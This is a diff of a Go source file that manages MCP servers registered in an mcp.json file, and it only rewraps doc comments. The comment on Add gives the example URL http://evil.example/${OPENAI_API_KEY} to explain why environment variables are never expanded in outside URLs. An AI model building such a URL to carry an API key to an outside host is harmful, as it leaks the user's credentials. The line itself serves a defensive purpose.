@@ -29,8 +29,8 @@ type Config struct {
 	Private  func() bool   // servers that are added while the program runs may be at private and loopback addresses; nil: they may not
 }
 
-// Set is the MCP servers that are registered. It may be used by many at once. The file is the truth: every change goes into it
-// first and is taken from there, so that what runs and what a restart would bring are the same.
+// Set is the MCP servers that are registered. It may be used by many at once. The file is the truth: every change goes
+// into it first and is taken from there, so that what runs and what a restart would bring are the same.
 type Set struct {
 	cfg     Config
 	ctx     context.Context
@@ -43,19 +43,20 @@ type Set struct {
 	stamp stamp // of the file when it was read or written last
 }
 
-// stamp tells one state of a file from another. Two edits of the same size within the clock's step look alike; people do not
-// edit that fast.
+// stamp tells one state of a file from another. Two edits of the same size within the clock's step look alike; people
+// do not edit that fast.
 type stamp struct {
 	at   time.Time
 	size int64
 }
 
-// watchTime is how often the file is looked at. A look is one stat, so no file events are needed, which differ by system and
-// miss files that are replaced.
+// watchTime is how often the file is looked at. A look is one stat, so no file events are needed, which differ by
+// system and miss files that are replaced.
 const watchTime = 2 * time.Second
 
-// Open reads mcp.json and begins to connect. A file that cannot be read as one is an error; a server that does not answer is
-// not. Close the Set when it is no longer needed. It does not wait for the servers: their tools come when they answer.
+// Open reads mcp.json and begins to connect. A file that cannot be read as one is an error; a server that does not
+// answer is not. Close the Set when it is no longer needed. It does not wait for the servers: their tools come when
+// they answer.
 func Open(cfg Config) (*Set, error) {
 	cfg.CallTime = cmp.Or(cfg.CallTime, callTime)
 	cfg.ListTime = cmp.Or(cfg.ListTime, 5*time.Second)
@@ -77,8 +78,8 @@ func Open(cfg Config) (*Set, error) {
 	return s, nil
 }
 
-// Close ends all connections and commands, and waits until they have ended, which takes some seconds for a command that does
-// not end by itself.
+// Close ends all connections and commands, and waits until they have ended, which takes some seconds for a command that
+// does not end by itself.
 func (s *Set) Close() {
 	s.end()
 	s.running.Wait()
@@ -104,7 +105,8 @@ func (s *Set) take(f *file) {
 			s.forget(old)
 		}
 		if e.Command != "" {
-			// The whole command is in the log before it runs: the file is its own approval, and this is where people can look.
+			// The whole command is in the log before it runs: the file is its own approval, and this is where people
+			// can look.
 			s.cfg.Log.Info().Str("mcp_server", e.Name).Str("command", e.Command).Strs("args", e.Args).Msg("starting the command that mcp.json names")
 		}
 		// It connects in a goroutine of its own; s.mu is not held while it does.
@@ -117,7 +119,8 @@ func (s *Set) take(f *file) {
 	}
 }
 
-// forget ends a link and takes its tools away. s.mu is held. Clients at /mcp hear of it at once, by the registry's change.
+// forget ends a link and takes its tools away. s.mu is held. Clients at /mcp hear of it at once, by the registry's
+// change.
 func (s *Set) forget(l *link) {
 	l.end()
 	delete(s.links, l.entry.Name)
@@ -127,8 +130,8 @@ func (s *Set) forget(l *link) {
 // source is the registry's name for a server's tools: all of one source are replaced together, and nobody else's.
 func source(name string) string { return "mcp server " + name }
 
-// publish gives a server's tools to the registry, unless the server has been removed meanwhile: a list that comes late would
-// else bring back tools that nobody serves.
+// publish gives a server's tools to the registry, unless the server has been removed meanwhile: a list that comes late
+// would else bring back tools that nobody serves.
 func (s *Set) publish(l *link, all []tools.Tool) error {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -167,8 +170,8 @@ func (s *Set) watch() {
 	}
 }
 
-// reread takes the file as it is now, if it has changed. A broken one is reported once, since the stamp is kept before the file
-// is read. s.mu is held.
+// reread takes the file as it is now, if it has changed. A broken one is reported once, since the stamp is kept before
+// the file is read. s.mu is held.
 func (s *Set) reread() error {
 	now := stampOf(s.cfg.Path)
 	if now == s.stamp {
@@ -188,9 +191,9 @@ func (s *Set) reread() error {
 	return nil
 }
 
-// change makes a change to the file as it is now, saves it, and takes it. A file that somebody has broken is left alone; one
-// that somebody has removed is written anew, with what was in it. It starts from the file and not from memory: an edit of
-// the last two seconds, which watch has not seen yet, must not be lost.
+// change makes a change to the file as it is now, saves it, and takes it. A file that somebody has broken is left
+// alone; one that somebody has removed is written anew, with what was in it. It starts from the file and not from
+// memory: an edit of the last two seconds, which watch has not seen yet, must not be lost.
 func (s *Set) change(do func(f *file) error) error {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -208,8 +211,8 @@ func (s *Set) change(do func(f *file) error) error {
 	return nil
 }
 
-// fresh is the file as it is now, for a change. It is a copy also when the file is gone, so that a change that cannot be saved
-// leaves nothing behind in memory.
+// fresh is the file as it is now, for a change. It is a copy also when the file is gone, so that a change that cannot
+// be saved leaves nothing behind in memory.
 func (s *Set) fresh() (*file, error) {
 	if stampOf(s.cfg.Path) != (stamp{}) {
 		return load(s.cfg.Path)
@@ -222,8 +225,8 @@ func (s *Set) fresh() (*file, error) {
 }
 
 // Add registers a server by its URL; one of that name gets the new URL. It cannot be a command, and nothing of the
-// environment is put into what comes from outside: http://evil.example/${OPENAI_API_KEY} would send a key there. The error is
-// fault.Invalid for a name or URL that cannot be, and fault.Unable when the file cannot be changed.
+// environment is put into what comes from outside: http://evil.example/${OPENAI_API_KEY} would send a key there. The
+// error is fault.Invalid for a name or URL that cannot be, and fault.Unable when the file cannot be changed.
 func (s *Set) Add(ctx context.Context, name, url string) error {
 	e := Entry{Name: name, URL: url}
 	// It is written into the file, so that it still holds after a restart.
@@ -243,8 +246,8 @@ func (s *Set) Add(ctx context.Context, name, url string) error {
 	return s.change(func(f *file) error { return f.put(e) })
 }
 
-// Remove takes a server out, and says whether it was there. Its tools are gone when Remove returns; calls that run end with
-// the connection.
+// Remove takes a server out, and says whether it was there. Its tools are gone when Remove returns; calls that run end
+// with the connection.
 func (s *Set) Remove(name string) (found bool, err error) {
 	err = s.change(func(f *file) error {
 		if found = f.drop(name); !found {
@@ -261,7 +264,8 @@ func (s *Set) Remove(name string) (found bool, err error) {
 // errNone says that no server has that name, or none that is asked: one that is disabled counts for Collect as none.
 var errNone = errors.New("there is no such server")
 
-// List tells of all servers, in the file's order, those that are disabled among them. It asks none of them and never waits.
+// List tells of all servers, in the file's order, those that are disabled among them. It asks none of them and never
+// waits.
 func (s *Set) List() []State {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -276,7 +280,8 @@ func (s *Set) List() []State {
 	return out
 }
 
-// Names are the names of the servers that are asked, in the file's order: it is the order in which the agent offers their tools.
+// Names are the names of the servers that are asked, in the file's order: it is the order in which the agent offers
+// their tools.
 func (s *Set) Names() []string {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -290,8 +295,8 @@ func (s *Set) Names() []string {
 }
 
 // Collect gives the tools of servers, each asked at the same time as the others and waited for no longer than
-// Config.ListTime. down are those that do not answer, with why. So dead servers cost a request five seconds at most, however
-// many they are, and never its answer.
+// Config.ListTime. down are those that do not answer, with why. So dead servers cost a request five seconds at most,
+// however many they are, and never its answer.
 func (s *Set) Collect(ctx context.Context, names []string) (all []tools.Tool, down map[string]string) {
 	ctx, cancel := context.WithTimeout(ctx, s.cfg.ListTime)
 	defer cancel()
